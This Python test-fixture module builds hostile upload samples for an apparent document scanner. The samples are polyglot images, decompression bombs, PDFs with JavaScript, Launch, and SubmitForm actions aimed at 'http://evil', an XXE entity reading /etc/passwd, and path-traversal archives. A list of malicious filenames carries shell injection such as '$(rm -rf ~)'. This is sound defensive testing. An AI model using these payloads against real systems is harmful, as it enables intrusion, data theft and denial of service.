"""Hostile files, built here byte by byte: what is tried on an office that takes files from anybody."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any, NamedTuple

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from casework.documents.scanner import TEST_SIGN

MARK = b"<script>alert('mark-4711')</script>"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + TEST_SIGN + b"!$H+H*"
OFD_XML = b'<?xml version="1.0"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"><ofd:DocBody/></ofd:OFD>'


class Sample(NamedTuple):
    """A file and what must become of it: the code of the refusal, or "" when it may be kept, without `payload`."""

    name: str
    source: bytes | Callable[[], bytes]
    code: str = ""
    payload: bytes = MARK

    @property
    def data(self) -> bytes:
        """The bytes; bombs are only built when their test runs."""
        return self.source if isinstance(self.source, bytes) else self.source()


def jpeg(size: tuple[int, int] = (40, 30), **more: Any) -> bytes:
    """A real JPEG."""
    out = io.BytesIO()
    Image.new("RGB", size, (200, 90, 120)).save(out, "JPEG", **more)
    return out.getvalue()


def png(size: tuple[int, int] = (40, 30), mode: str = "RGB", **more: Any) -> bytes:
    """A real PNG."""
    out = io.BytesIO()
    Image.new(mode, size).save(out, "PNG", **more)
    return out.getvalue()


def picture(kind: str, **more: Any) -> bytes:
    """A real picture of another kind."""
    out = io.BytesIO()
    Image.new("RGB", (8, 8)).save(out, kind, **more)
    return out.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    """One chunk of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of(width: int, height: int, data: bytes, *extra: bytes, colour: int = 0, depth: int = 1) -> bytes:
    """A PNG whose header says what it likes."""
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + b"".join(extra) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def jpeg_that_claims(width: int, height: int) -> bytes:
    """A small JPEG whose frame header claims a huge size."""
    data = bytearray(jpeg())
    frame = data.index(b"\xff\xc0")
    data[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def exif_jpeg() -> bytes:
    """A photo that knows where it was taken."""
    exif = Image.Exif()
    exif[0x010E] = MARK.decode()
    exif.get_ifd(0x8825)[1] = "N"
    return jpeg(exif=exif)


def text_png() -> bytes:
    """A PNG with a text that a careless page would print."""
    info = PngInfo()
    info.add_text("Comment", MARK.decode())
    return png(pnginfo=info)


def pdf(change: Any = None, pages: int = 1, **more: Any) -> bytes:
    """A PDF of empty pages, changed by `change(pdf)`; the same bytes whenever it is made."""
    out = io.BytesIO()
    with pikepdf.new() as made:
        for _n in range(pages):
            made.add_blank_page()
        if change is not None:
            change(made)
        # The file's own number comes from what is in it, not from the clock; a locked file may not have one like that.
        made.save(out, deterministic_id="encryption" not in more, **more)
    return out.getvalue()


def action(**what: Any) -> Any:
    """A PDF that does something when it is opened."""

    def change(made: Any) -> None:
        made.Root.OpenAction = Dictionary(**what)

    return change


def on_page(key: str, value: Any) -> Any:
    """A PDF whose first page has one more entry."""

    def change(made: Any) -> None:
        made.pages[0].obj[key] = value(made) if callable(value) else value

    return change


def annotation(**what: Any) -> Any:
    """A PDF with one annotation."""
    return on_page("/Annots", Array([Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], **what)]))


def in_root(key: str, value: Any) -> Any:
    """A PDF with one more entry in its catalogue."""

    def change(made: Any) -> None:
        made.Root[key] = made.make_indirect(value)

    return change


def attached(made: Any) -> None:
    """A file inside the PDF."""
    made.attachments["evil.exe"] = b"MZ" + MARK


def deep(levels: int) -> Any:
    """Arrays in arrays."""

    def change(made: Any) -> None:
        inner = Array([])
        for _n in range(levels):
            inner = Array([inner])
        made.Root.Deep = inner

    return change


def crowded(objects: int) -> Any:
    """So many small objects."""

    def change(made: Any) -> None:
        made.Root.Many = Array([made.make_indirect(Dictionary(A=n)) for n in range(objects)])

    return change


def with_stream(data: bytes) -> Any:
    """A PDF whose page draws these bytes."""
    return on_page("/Contents", lambda made: Stream(made, data))


def object_stream_bomb(size: int) -> bytes:
    """A hand-made PDF whose objects hide in a stream that unpacks to `size` bytes."""
    plain = b"1 0 2 20 " + b"<</Type/Catalog/Pages 2 0 R>> <</Type/Pages/Kids[]/Count 0>>"
    packed = zlib.compressobj(9)
    data = (
        packed.compress(plain)
        + b"".join(packed.compress(b" " * 1_000_000) for _n in range(size // 1_000_000))
        + packed.flush()
    )
    body = b"%PDF-1.7\n"
    first = len(body)
    body += (
        b"3 0 obj\n<</Type/ObjStm/N 2/First 9/Filter/FlateDecode/Length %d>>stream\n" % len(data)
        + data
        + b"\nendstream endobj\n"
    )
    start = len(body)
    rows = b"".join(
        struct.pack(">BIH", *row) for row in ((0, 0, 0), (2, 3, 0), (2, 3, 1), (1, first, 0), (1, start, 0))
    )
    body += (
        b"4 0 obj\n<</Type/XRef/Size 5/W[1 4 2]/Root 1 0 R/Length %d>>stream\n" % len(rows)
        + rows
        + b"\nendstream endobj\n"
    )
    return body + b"startxref\n%d\n%%%%EOF" % start


def archive(parts: dict[str, bytes], *, level: int = 9, before: bytes = b"") -> bytes:
    """A zip file."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as made:
        for name, data in parts.items():
            made.writestr(name, data)
    return before + out.getvalue()


def ofd(extra: dict[str, bytes] | None = None, first: bytes = OFD_XML) -> bytes:
    """An OFD with more parts."""
    parts = {"OFD.xml": first, "Doc_0/Document.xml": b"<x/>", "Doc_0/Pages/Page_0/Content.xml": b"<x/>"}
    return archive({**parts, **(extra or {})})


def locked(data: bytes) -> bytes:
    """A zip whose entries say that they are encrypted."""
    made = bytearray(data)
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = made.find(sign)
        while at >= 0:
            made[at + place] |= 1
            at = made.find(sign, at + 4)
    return bytes(made)


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + MARK + b"</svg>"
HTML = b"<!DOCTYPE html><html><body>" + MARK + b"</body></html>"

POLYGLOTS = [
    Sample("tail-html.jpg", jpeg() + HTML),
    Sample("tail-zip.jpg", jpeg() + archive({"Evil.class": MARK}), payload=b"Evil.class"),
    Sample("tail-exe.png", png() + b"MZ\x90\x00" + MARK),
    Sample("comment.jpg", jpeg(comment=MARK)),
    Sample("exif-gps.jpg", exif_jpeg()),
    Sample("text-chunk.png", text_png()),
    Sample("tail-pdf.jpg", jpeg() + pdf(), payload=b"%PDF"),
    Sample("photo.html", jpeg() + MARK),
    Sample("really-png.jpg", png() + MARK),
    Sample("page.php", png() + b"<?php " + MARK),
    Sample(
        "ztxt.png",
        png_of(8, 8, zlib.compress(b"\0\0" * 8), chunk(b"zTXt", b"x\0\0" + zlib.compress(MARK))),
        payload=b"zTXt",
    ),
    Sample("gifar.gif", picture("GIF") + archive({"Evil.class": MARK}), "FILE_TYPE"),
    Sample("js.gif", b"GIF89a/*" + b"\0" * 9 + b"*/=1;" + MARK, "FILE_TYPE"),
    Sample("html-then-jpeg.jpg", HTML + jpeg(), "FILE_TYPE"),
    Sample("html-then-pdf.pdf", HTML + pdf(), "FILE_TYPE"),
    Sample("pdf-after-500.pdf", b"\n" * 500 + pdf(), "FILE_TYPE"),
    Sample("space-pdf.pdf", b" " + pdf(), "FILE_TYPE"),
    Sample("zip-then-jpeg.jpg", archive({"a": MARK}) + jpeg(), "FILE_TYPE"),
    Sample("jpeg-head-html.jpg", b"\xff\xd8\xff\xe0" + HTML, "FILE_BROKEN"),
    Sample("png-head-html.png", b"\x89PNG\r\n\x1a\n" + HTML, "FILE_BROKEN"),
    Sample("pdf-head-html.pdf", b"%PDF-1.7\n" + HTML, "FILE_BROKEN"),
    Sample("half.jpg", jpeg((400, 400))[:900], "FILE_BROKEN"),
    Sample("half.png", png((900, 900))[:200], "FILE_BROKEN"),
]
FOREIGN = [
    Sample("drawing.svg", SVG, "FILE_TYPE"),
    Sample("drawing.jpg", SVG, "FILE_TYPE"),
    Sample("prolog.png", b'<?xml version="1.0"?>\n<!-- x -->' + SVG, "FILE_TYPE"),
    Sample("page.jpg", HTML, "FILE_TYPE"),
    Sample("bom.pdf", b"\xef\xbb\xbf\n " + HTML, "FILE_TYPE"),
    Sample("x.jpg", b"<html>" + MARK, "FILE_TYPE"),
    Sample("mail.jpg", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + HTML, "FILE_TYPE"),
    Sample("a.bmp", picture("BMP"), "FILE_TYPE"),
    Sample("a.tiff", picture("TIFF"), "FILE_TYPE"),
    Sample("a.webp", picture("WEBP"), "FILE_TYPE"),
    Sample("a.ico", picture("ICO"), "FILE_TYPE"),
    Sample("a.heic", b"\0\0\0\x18ftypheic\0\0\0\0heicmif1", "FILE_TYPE"),
    Sample("a.mp4", b"\0\0\0\x18ftypisom" + b"\0" * 64, "FILE_TYPE"),
    Sample("a.exe", b"MZ\x90\0" + b"\0" * 99, "FILE_TYPE"),
    Sample("a.jpg", b"\x7fELF\2\1\1" + b"\0" * 99, "FILE_TYPE"),
    Sample("run.pdf", b"#!/bin/sh\nrm -rf /\n", "FILE_TYPE"),
    Sample("a.docx", archive({"[Content_Types].xml": b"", "word/x.xml": MARK}), "FILE_TYPE"),
    Sample("a.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "FILE_TYPE"),
    Sample("a.rtf", b"{\\rtf1 x}", "FILE_TYPE"),
    Sample("a.zip", archive({"x.txt": MARK}), "FILE_TYPE"),
    Sample("a.rar", b"Rar!\x1a\7\0" + b"\0" * 99, "FILE_TYPE"),
    Sample("a.7z", b"7z\xbc\xaf\x27\x1c" + b"\0" * 99, "FILE_TYPE"),
    Sample("a.gz", b"\x1f\x8b\x08\0" + b"\0" * 99, "FILE_TYPE"),
    Sample("a.txt", b"nothing but words", "FILE_TYPE"),
    Sample("a.js", b"alert(1)", "FILE_TYPE"),
    Sample("noise.jpg", bytes(range(256)) * 9, "FILE_TYPE"),
]
BOMBS = [
    Sample("pixels.png", lambda: png_of(30_000, 30_000, zlib.compress(b"\0" * 30_000 * 3751, 9)), "FILE_PIXELS"),
    Sample("long.png", lambda: png_of(200_000, 1, zlib.compress(b"\0" * 25_001)), "FILE_PIXELS"),
    Sample("claims.png", lambda: png_of(2**31 - 1, 2**31 - 1, zlib.compress(b"\0")), "FILE_PIXELS"),
    Sample("claims.jpg", lambda: jpeg_that_claims(65_500, 65_500), "FILE_PIXELS"),
    Sample("nothing.png", lambda: png_of(0, 5, b""), "FILE_BROKEN"),
    Sample(
        "text-bomb.png",
        lambda: png_of(
            8, 8, zlib.compress(b"\0\0" * 8), chunk(b"zTXt", b"x\0\0" + zlib.compress(b"A" * 200_000_000, 9))
        ),
        "FILE_BROKEN",
    ),
    Sample(
        "too-much-data.png", lambda: png_of(8, 8, zlib.compress(b"\0" * 300_000_000, 9), chunk(b"tEXt", b"x\0" + MARK))
    ),
    Sample("ratio.ofd", lambda: ofd({"Doc_0/a.xml": b"0" * 60_000_000}), "FILE_BOMB"),
    Sample("parts.ofd", lambda: ofd({f"Doc_0/{n}.xml": b"" for n in range(2500)}), "FILE_BOMB"),
    Sample(
        "sum.ofd",
        lambda: ofd({f"Doc_0/{n}.xml": bytes(range(256)) * 400 + b"0" * 4_000_000 for n in range(30)}),
        "FILE_BOMB",
    ),
    Sample("objects.pdf", lambda: object_stream_bomb(900_000_000), "FILE_B"),
    Sample("pages.pdf", lambda: pdf(pages=400), "FILE_PDF_PAGES"),
    Sample("crowd.pdf", lambda: pdf(crowded(70_000)), "FILE_PDF_OBJECTS"),
    Sample("deep.pdf", lambda: pdf(deep(120)), "FILE_PDF_OBJECTS"),
    Sample(
        "nested.pdf",
        lambda: b"%PDF-1.4\n1 0 obj\n" + b"[" * 200_000 + b"]" * 200_000 + b"\nendobj\ntrailer<</Root 1 0 R>>",
        "FILE_B",
    ),
]
ACTIVE = [
    Sample("js.pdf", pdf(action(S=Name.JavaScript, JS=String("app.alert(1)"))), "FILE_PDF_ACTIVE"),
    Sample("js-names.pdf", pdf(in_root("/Names", Dictionary(JavaScript=Dictionary(Names=[])))), "FILE_PDF_ACTIVE"),
    Sample(
        "js-hidden.pdf",
        pdf(action(S=Name.JavaScript, JS=String("x")), object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "FILE_PDF_ACTIVE",
    ),
    Sample(
        "js-hex.pdf",
        pdf(in_root("/Odd", Dictionary(S=Name.XavaScript, X=String("x")))).replace(
            b"/XavaScript", b"/J#61vaScript"[:13]
        ),
        "FILE_PDF_ACTIVE",
    ),
    Sample("aa.pdf", pdf(on_page("/AA", Dictionary(O=Dictionary(S=Name.Named)))), "FILE_PDF_ACTIVE"),
    Sample("launch.pdf", pdf(action(S=Name.Launch, F=String("cmd.exe"))), "FILE_PDF_ACTIVE"),
    Sample("embedded.pdf", pdf(attached), "FILE_PDF_ACTIVE"),
    Sample("attachment.pdf", pdf(annotation(Subtype=Name.FileAttachment)), "FILE_PDF_ACTIVE"),
    Sample("submit.pdf", pdf(action(S=Name.SubmitForm, F=String("http://evil"))), "FILE_PDF_ACTIVE"),
    Sample("gotor.pdf", pdf(action(S=Name.GoToR, F=String("\\\\evil\\share"))), "FILE_PDF_ACTIVE"),
    Sample("import.pdf", pdf(action(S=Name.ImportData, F=String("x"))), "FILE_PDF_ACTIVE"),
    Sample("xfa.pdf", pdf(in_root("/AcroForm", Dictionary(XFA=String("x")))), "FILE_PDF_ACTIVE"),
    Sample("media.pdf", pdf(annotation(Subtype=Name.RichMedia)), "FILE_PDF_ACTIVE"),
    Sample("screen.pdf", pdf(annotation(Subtype=Name.Screen)), "FILE_PDF_ACTIVE"),
    Sample("3d.pdf", pdf(annotation(Subtype=Name("/3D"))), "FILE_PDF_ACTIVE"),
    Sample("sound.pdf", pdf(annotation(Subtype=Name.Link, A=Dictionary(S=Name.Sound))), "FILE_PDF_ACTIVE"),
    Sample("locked.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "FILE_ENCRYPTED"),
    Sample("owner.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user="")), "FILE_ENCRYPTED"),
    Sample("empty.pdf", pdf(pages=0), "FILE_PDF_PAGES"),
    Sample("half.pdf", pdf()[:60], "FILE_BROKEN"),
    Sample("up.ofd", ofd({"Doc_0/../../../etc/cron.xml": MARK}), "FILE_OFD_PART"),
    Sample("root.ofd", ofd({"/etc/x.xml": MARK}), "FILE_OFD_PART"),
    Sample("html.ofd", ofd({"Doc_0/x.html": HTML}), "FILE_OFD_PART"),
    Sample("exe.ofd", ofd({"Doc_0/x.exe": b"MZ"}), "FILE_OFD_PART"),
    Sample("xxe.ofd", ofd(first=b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>' + OFD_XML), "FILE_BROKEN"),
    Sample("locked.ofd", locked(ofd()), "FILE_ENCRYPTED"),
    Sample("no-first.ofd", archive({"Doc_0/x.xml": b"<x/>"}), "FILE_BROKEN"),
]
VIRUS = [
    Sample("eicar.com", EICAR, "FILE_TYPE"),
    Sample("eicar.jpg", jpeg() + EICAR, "FILE_VIRUS"),
    Sample("eicar.pdf", pdf(with_stream(EICAR), compress_streams=False), "FILE_VIRUS"),
    Sample("far.png", lambda: png() + b"\0" * 1_048_560 + EICAR, "FILE_VIRUS"),
]
EVERY = [*POLYGLOTS, *FOREIGN, *BOMBS, *ACTIVE, *VIRUS, Sample("nothing.jpg", b"", "FILE_EMPTY")]

# Names as they arrive; none may become a path, a header or a tag.
NAMES = [
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\boot.ini",
    "a%00.jpg",
    "a\0.php.jpg",
    "a.jpg\0.php",
    "",
    ".",
    "..",
    "....",
    ".htaccess",
    "a" * 255,
    "字" * 85,
    "字" * 5000,
    "photo\u202egpj.exe",
    "a\r\nSet-Cookie: x=1.jpg",
    '"><script>alert(1)</script>.jpg',
    "$(rm -rf ~).jpg",
    "`id`.jpg",
    "a;b|c&d.jpg",
    "CON",
    "nul.jpg",
    "a.jpg.exe",
    "a.tar.gz",
    "身份证 正面.JPG",
    "𠮷㐂.jpeg",
    "a\ud800b.jpg",
    "\ue000\ufeff\u200b.jpg",
    "👨‍👩‍👧.png",
    "%2e%2e%2fx.jpg",
    "~root.jpg",
    "a.jpg::$DATA",
    " leading and trailing ",
    "tab\tname.jpg",
    "-rf.jpg",
]
